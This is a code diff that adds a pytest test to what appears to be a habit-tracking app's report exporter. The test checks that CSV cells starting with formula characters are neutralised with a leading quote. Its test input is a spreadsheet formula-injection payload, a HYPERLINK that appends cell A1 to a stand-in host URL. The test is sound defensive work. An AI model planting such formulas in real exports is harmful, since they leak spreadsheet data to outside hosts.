@@ -211,3 +211,20 @@ def test_report_from_the_shell_writes_a_private_file(tmp_path, profile) -> None:
         check=False,
     )
     assert bad.returncode == 1 and "is before --from" in bad.stderr
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_18_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(
+    profile, library, start
+) -> None:
+    formula = start + 'HYPERLINK("http://x.example/?"&A1,"click")'
+    profile.habits[0].title = formula
+    profile.checkins[END].tags = [formula]
+    report = report_of(profile, library, include_notes=True)
+    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
+    cells = [v for r in rows for v in r.values()]
+    assert [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    shown = "'" + formula.replace("\r", "␍")  # visible() pictures a carriage return
+    assert shown in cells
+    data = json.loads(render(report, "json"))  # JSON keeps the exact text
+    assert any(formula in (r["item"], r["value"]) for r in data["rows"])
